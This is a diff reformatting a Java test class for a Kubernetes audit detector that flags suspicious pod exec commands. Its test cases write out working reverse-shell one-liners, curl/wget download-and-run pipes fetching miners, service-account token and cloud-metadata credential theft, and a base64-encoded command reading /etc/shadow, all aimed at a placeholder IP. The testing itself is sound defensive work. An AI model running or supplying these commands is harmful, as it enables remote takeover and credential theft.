@@ -34,27 +34,36 @@ class ExecSuspiciousCommandTest {
 
     @Test
     void theStratusServiceAccountTokenTheftIsRaised() {
-        Alert alert = Detect.single(detector, InteractiveEvents.stratusStealServiceAccountToken(DAVE).build());
+        Alert alert = Detect.single(
+                detector,
+                InteractiveEvents.stratusStealServiceAccountToken(DAVE).build());
 
         assertThat(alert.detector()).isEqualTo("exec-suspicious-command");
         assertThat(alert.severity()).isEqualTo(Severity.HIGH);
         assertThat(alert.tenant()).isNull();
-        assertThat(alert.summary()).isEqualTo("dave@fabrikam.com (unattributed) exec'd into pods/stratus-red-team-sample-pod in "
-                + "namespace stratus-red-team-ubdaslyp (no tenant) with a suspicious command (service-account token): cat "
-                + TOKEN_PATH);
-        assertThat(alert.evidence().details()).containsExactly("indicator: service-account token (kubernetes.io/serviceaccount)",
-                "command: cat " + TOKEN_PATH);
-        assertThat(alert.evidence().requestURI()).isEqualTo("/api/v1/namespaces/stratus-red-team-ubdaslyp/pods/"
-                + "stratus-red-team-sample-pod/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2F"
-                + "serviceaccount%2Ftoken&stdout=true");
-        assertThat(alert.mitre()).isEqualTo(new Alert.Mitre("Credential Access", "T1528 Steal Application Access Token"));
-        assertThat(ExecSuspiciousCommand.SPEC.mitre()).isEqualTo(new Alert.Mitre("Execution", "T1609 Container Administration Command"));
+        assertThat(alert.summary())
+                .isEqualTo("dave@fabrikam.com (unattributed) exec'd into pods/stratus-red-team-sample-pod in "
+                        + "namespace stratus-red-team-ubdaslyp (no tenant) with a suspicious command (service-account token): cat "
+                        + TOKEN_PATH);
+        assertThat(alert.evidence().details())
+                .containsExactly(
+                        "indicator: service-account token (kubernetes.io/serviceaccount)",
+                        "command: cat " + TOKEN_PATH);
+        assertThat(alert.evidence().requestURI())
+                .isEqualTo("/api/v1/namespaces/stratus-red-team-ubdaslyp/pods/"
+                        + "stratus-red-team-sample-pod/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2F"
+                        + "serviceaccount%2Ftoken&stdout=true");
+        assertThat(alert.mitre())
+                .isEqualTo(new Alert.Mitre("Credential Access", "T1528 Steal Application Access Token"));
+        assertThat(ExecSuspiciousCommand.SPEC.mitre())
+                .isEqualTo(new Alert.Mitre("Execution", "T1609 Container Administration Command"));
     }
 
     @Test
     void aCrossTenantExecStealingTheTokenRaisesBothCrossTenantExecAndThis() {
         assertThat(Detect.detectorsRaising(AuditEvents.by(ALICE)
-                .exec("beta-prod", "payments-api-6c9f7d8b4-k2x7q", "sh", "-c", "cat " + TOKEN_PATH).build()))
+                        .exec("beta-prod", "payments-api-6c9f7d8b4-k2x7q", "sh", "-c", "cat " + TOKEN_PATH)
+                        .build()))
                 .contains("cross-tenant-exec", "exec-suspicious-command")
                 .doesNotContain("pod-exec");
     }
@@ -62,10 +71,12 @@ class ExecSuspiciousCommandTest {
     @Test
     void anAdminsExecRaisesPodExecAndThisAndAnOwnTenantExecOnlyThis() {
         assertThat(Detect.detectorsRaising(AuditEvents.by(MASTERCLIENT)
-                .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh").build()))
+                        .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh")
+                        .build()))
                 .contains("pod-exec", "exec-suspicious-command");
         assertThat(Detect.detectorsRaising(AuditEvents.by(ALICE)
-                .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh").build()))
+                        .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh")
+                        .build()))
                 .contains("exec-suspicious-command")
                 .doesNotContain("pod-exec", "cross-tenant-exec");
     }
@@ -73,45 +84,83 @@ class ExecSuspiciousCommandTest {
     static Stream<Arguments> attacks() {
         return Stream.of(
                 // the service-account token, and AKS workload identity's
-                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"ls", "/var/run/secrets/kubernetes.io/serviceaccount"}),
-                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c",
-                        "TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" "
-                                + "https://kubernetes.default.svc/api/v1/secrets"}),
-                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"cat", "/var/run/secrets/azure/tokens/azure-identity-token"}),
-                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c", "cat $AZURE_FEDERATED_TOKEN_FILE"}),
+                Arguments.of(
+                        Indicator.SERVICE_ACCOUNT_TOKEN,
+                        new String[] {"ls", "/var/run/secrets/kubernetes.io/serviceaccount"}),
+                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {
+                    "sh",
+                    "-c",
+                    "TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" "
+                            + "https://kubernetes.default.svc/api/v1/secrets"
+                }),
+                Arguments.of(
+                        Indicator.SERVICE_ACCOUNT_TOKEN,
+                        new String[] {"cat", "/var/run/secrets/azure/tokens/azure-identity-token"}),
+                Arguments.of(
+                        Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c", "cat $AZURE_FEDERATED_TOKEN_FILE"}),
                 // the instance metadata service and the Azure wireserver
-                Arguments.of(Indicator.INSTANCE_METADATA, new String[] {"curl", "-s", "-H", "Metadata:true",
-                        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"}),
-                Arguments.of(Indicator.INSTANCE_METADATA, new String[] {"wget", "-qO-", "http://168.63.129.16/machine?comp=goalstate"}),
+                Arguments.of(Indicator.INSTANCE_METADATA, new String[] {
+                    "curl",
+                    "-s",
+                    "-H",
+                    "Metadata:true",
+                    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
+                }),
+                Arguments.of(
+                        Indicator.INSTANCE_METADATA,
+                        new String[] {"wget", "-qO-", "http://168.63.129.16/machine?comp=goalstate"}),
                 Arguments.of(Indicator.INSTANCE_METADATA, new String[] {"curl", "http://2852039166/metadata/instance"}),
                 Arguments.of(Indicator.INSTANCE_METADATA, new String[] {"curl", "http://0xA9FEA9FE/latest/meta-data/"}),
                 // reverse shells
-                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}),
+                Arguments.of(
+                        Indicator.REVERSE_SHELL,
+                        new String[] {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}),
                 Arguments.of(Indicator.REVERSE_SHELL, new String[] {"sh", "-i"}),
                 Arguments.of(Indicator.REVERSE_SHELL, new String[] {"/bin/bash", "-i"}),
                 Arguments.of(Indicator.REVERSE_SHELL, new String[] {"nc", "203.0.113.7", "4444", "-e", "/bin/sh"}),
                 Arguments.of(Indicator.REVERSE_SHELL, new String[] {"ncat", "-e", "/bin/bash", "203.0.113.7", "443"}),
                 Arguments.of(Indicator.REVERSE_SHELL, new String[] {"ncat", "--sh-exec", "bash", "203.0.113.7", "443"}),
-                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"sh", "-c",
-                        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"}),
-                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane",
-                        "tcp:203.0.113.7:4444"}),
-                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"python3", "-c", "import socket,subprocess,os;"
-                        + "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));"
-                        + "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])"}),
+                Arguments.of(Indicator.REVERSE_SHELL, new String[] {
+                    "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"
+                }),
+                Arguments.of(Indicator.REVERSE_SHELL, new String[] {
+                    "socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:203.0.113.7:4444"
+                }),
+                Arguments.of(Indicator.REVERSE_SHELL, new String[] {
+                    "python3",
+                    "-c",
+                    "import socket,subprocess,os;"
+                            + "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));"
+                            + "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])"
+                }),
                 // download and run
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"bash", "-c", "wget -q -O - http://203.0.113.7/k.sh | bash"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c", "curl -s http://203.0.113.7/x|sudo /bin/bash -s"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c", "curl -s http://203.0.113.7/i.py | python3"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c", "$(curl -fsSL http://203.0.113.7/x)"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"bash", "-c", "bash <(curl -s http://203.0.113.7/x.sh)"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c",
-                        "wget http://203.0.113.7/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x"}),
-                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c",
-                        "curl -o /tmp/kd http://203.0.113.7/kdevtmpfsi; chmod 755 /tmp/kd; /tmp/kd"}),
+                Arguments.of(
+                        Indicator.DOWNLOAD_AND_RUN,
+                        new String[] {"sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"}),
+                Arguments.of(
+                        Indicator.DOWNLOAD_AND_RUN,
+                        new String[] {"bash", "-c", "wget -q -O - http://203.0.113.7/k.sh | bash"}),
+                Arguments.of(
+                        Indicator.DOWNLOAD_AND_RUN,
+                        new String[] {"sh", "-c", "curl -s http://203.0.113.7/x|sudo /bin/bash -s"}),
+                Arguments.of(
+                        Indicator.DOWNLOAD_AND_RUN,
+                        new String[] {"sh", "-c", "curl -s http://203.0.113.7/i.py | python3"}),
+                Arguments.of(
+                        Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c", "$(curl -fsSL http://203.0.113.7/x)"}),
+                Arguments.of(
+                        Indicator.DOWNLOAD_AND_RUN,
+                        new String[] {"bash", "-c", "bash <(curl -s http://203.0.113.7/x.sh)"}),
+                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {
+                    "sh", "-c", "wget http://203.0.113.7/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x"
+                }),
+                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {
+                    "sh", "-c", "curl -o /tmp/kd http://203.0.113.7/kdevtmpfsi; chmod 755 /tmp/kd; /tmp/kd"
+                }),
                 // decode and run
-                Arguments.of(Indicator.ENCODED_COMMAND, new String[] {"sh", "-c", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"}));
+                Arguments.of(
+                        Indicator.ENCODED_COMMAND,
+                        new String[] {"sh", "-c", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"}));
     }
 
     @ParameterizedTest
@@ -119,7 +168,9 @@ class ExecSuspiciousCommandTest {
     void whatIntrudersRunIsRaised(Indicator expected, String[] command) {
         Alert alert = Detect.single(detector, daveExecs(command));
 
-        assertThat(ExecSuspiciousCommand.indicators(String.join(" ", command))).first().isEqualTo(expected);
+        assertThat(ExecSuspiciousCommand.indicators(String.join(" ", command)))
+                .first()
+                .isEqualTo(expected);
         assertThat(alert.summary()).contains(" with a suspicious command (" + expected.label());
         assertThat(alert.evidence().details()).first().asString().startsWith("indicator: " + expected.label() + " (");
     }
@@ -137,7 +188,8 @@ class ExecSuspiciousCommandTest {
                 Arguments.of((Object) new String[] {"cat", "/var/run/secrets/app/config.yaml"}),
                 Arguments.of((Object) new String[] {"ssh", "-i", "/keys/id_ed25519", "git@github.com"}),
                 Arguments.of((Object) new String[] {"curl", "-s", "http://localhost:8080/healthz"}),
-                Arguments.of((Object) new String[] {"sh", "-c", "curl -s http://localhost:8080/metrics | grep http_requests"}),
+                Arguments.of((Object)
+                        new String[] {"sh", "-c", "curl -s http://localhost:8080/metrics | grep http_requests"}),
                 Arguments.of((Object) new String[] {"sh", "-c", "wget -qO- http://web:8080/ | sha256sum"}),
                 Arguments.of((Object) new String[] {"sh", "-c", "curl -s http://web:8080/ | shasum -a 256"}),
                 Arguments.of((Object) new String[] {"sh", "-c", "echo $KUBERNETES_SERVICE_HOST"}),
@@ -157,21 +209,35 @@ class ExecSuspiciousCommandTest {
 
     @Test
     void everyIndicatorOfACommandIsNamedAndTheFirstSetsTheMitreMapping() {
-        Alert alert = Detect.single(detector, daveExecs("sh", "-c",
-                "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | nc 203.0.113.7 4444 -e /bin/sh"));
+        Alert alert = Detect.single(
+                detector,
+                daveExecs(
+                        "sh",
+                        "-c",
+                        "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | nc 203.0.113.7 4444 -e /bin/sh"));
 
-        assertThat(alert.summary()).contains("with a suspicious command (instance metadata, reverse shell): sh -c curl");
-        assertThat(alert.evidence().details()).containsExactly("indicator: instance metadata (169.254.169.254)",
-                "indicator: reverse shell (nc 203.0.113.7 4444 -e)",
-                "command: sh -c curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | nc 203.0.113.7 "
-                        + "4444 -e /bin/sh");
-        assertThat(alert.mitre()).isEqualTo(new Alert.Mitre("Credential Access", "T1552.005 Cloud Instance Metadata API"));
+        assertThat(alert.summary())
+                .contains("with a suspicious command (instance metadata, reverse shell): sh -c curl");
+        assertThat(alert.evidence().details())
+                .containsExactly(
+                        "indicator: instance metadata (169.254.169.254)",
+                        "indicator: reverse shell (nc 203.0.113.7 4444 -e)",
+                        "command: sh -c curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | nc 203.0.113.7 "
+                                + "4444 -e /bin/sh");
+        assertThat(alert.mitre())
+                .isEqualTo(new Alert.Mitre("Credential Access", "T1552.005 Cloud Instance Metadata API"));
     }
 
     @Test
     void aTokenInTheCommandIsRedactedEverywhere() {
-        Alert alert = Detect.single(detector, daveExecs("curl", "-sk", "-H", "Authorization: Bearer " + JWT,
-                "http://169.254.169.254/metadata/instance"));
+        Alert alert = Detect.single(
+                detector,
+                daveExecs(
+                        "curl",
+                        "-sk",
+                        "-H",
+                        "Authorization: Bearer " + JWT,
+                        "http://169.254.169.254/metadata/instance"));
 
         assertThat(alert.summary()).doesNotContain("eyJ").contains("Authorization: Bearer [redacted]");
         assertThat(alert.evidence().details()).allSatisfy(d -> assertThat(d).doesNotContain("eyJ"));
@@ -180,26 +246,58 @@ class ExecSuspiciousCommandTest {
 
     @Test
     void theWebSocketFormAndATenantWorkloadIdentityAreRaised() {
-        assertThat(Detect.with(detector, AuditEvents.by(DAVE).exec("alpha-prod", POD, "cat", TOKEN_PATH).verb("get").build()))
+        assertThat(Detect.with(
+                        detector,
+                        AuditEvents.by(DAVE)
+                                .exec("alpha-prod", POD, "cat", TOKEN_PATH)
+                                .verb("get")
+                                .build()))
                 .hasSize(1);
-        assertThat(Detect.with(detector, AuditEvents.by(ALPHA_DEPLOYER).exec("alpha-prod", POD, "cat", TOKEN_PATH).build()))
+        assertThat(Detect.with(
+                        detector,
+                        AuditEvents.by(ALPHA_DEPLOYER)
+                                .exec("alpha-prod", POD, "cat", TOKEN_PATH)
+                                .build()))
                 .hasSize(1);
     }
 
     @Test
     void platformIdentitiesAreQuiet() {
-        assertThat(Detect.with(detector, AuditEvents.by(AKS_SERVICE)
-                .exec("kube-system", "konnectivity-agent-7f8c9", "cat", TOKEN_PATH).build())).isEmpty();
-        assertThat(Detect.with(detector, AuditEvents.by(PLATFORM_GITOPS).exec("alpha-prod", POD, "sh", "-i").build())).isEmpty();
+        assertThat(Detect.with(
+                        detector,
+                        AuditEvents.by(AKS_SERVICE)
+                                .exec("kube-system", "konnectivity-agent-7f8c9", "cat", TOKEN_PATH)
+                                .build()))
+                .isEmpty();
+        assertThat(Detect.with(
+                        detector,
+                        AuditEvents.by(PLATFORM_GITOPS)
+                                .exec("alpha-prod", POD, "sh", "-i")
+                                .build()))
+                .isEmpty();
     }
 
     @Test
     void refusedExecsAndRequestsWithoutACommandAreQuiet() {
-        assertThat(Detect.with(detector, AuditEvents.by(DAVE).exec("alpha-prod", POD, "cat", TOKEN_PATH).forbidden().build()))
+        assertThat(Detect.with(
+                        detector,
+                        AuditEvents.by(DAVE)
+                                .exec("alpha-prod", POD, "cat", TOKEN_PATH)
+                                .forbidden()
+                                .build()))
                 .isEmpty();
-        assertThat(Detect.with(detector, AuditEvents.by(DAVE).exec("alpha-prod", POD).build())).isEmpty();
-        assertThat(Detect.with(detector, AuditEvents.by(DAVE).attach("alpha-prod", POD).build())).isEmpty();
-        assertThat(Detect.with(detector, AuditEvents.by(DAVE).portForward("alpha-prod", POD)
-                .query("command=cat+" + TOKEN_PATH.replace("/", "%2F")).build())).isEmpty();
+        assertThat(Detect.with(
+                        detector, AuditEvents.by(DAVE).exec("alpha-prod", POD).build()))
+                .isEmpty();
+        assertThat(Detect.with(
+                        detector, AuditEvents.by(DAVE).attach("alpha-prod", POD).build()))
+                .isEmpty();
+        assertThat(Detect.with(
+                        detector,
+                        AuditEvents.by(DAVE)
+                                .portForward("alpha-prod", POD)
+                                .query("command=cat+" + TOKEN_PATH.replace("/", "%2F"))
+                                .build()))
+                .isEmpty();
     }
 }
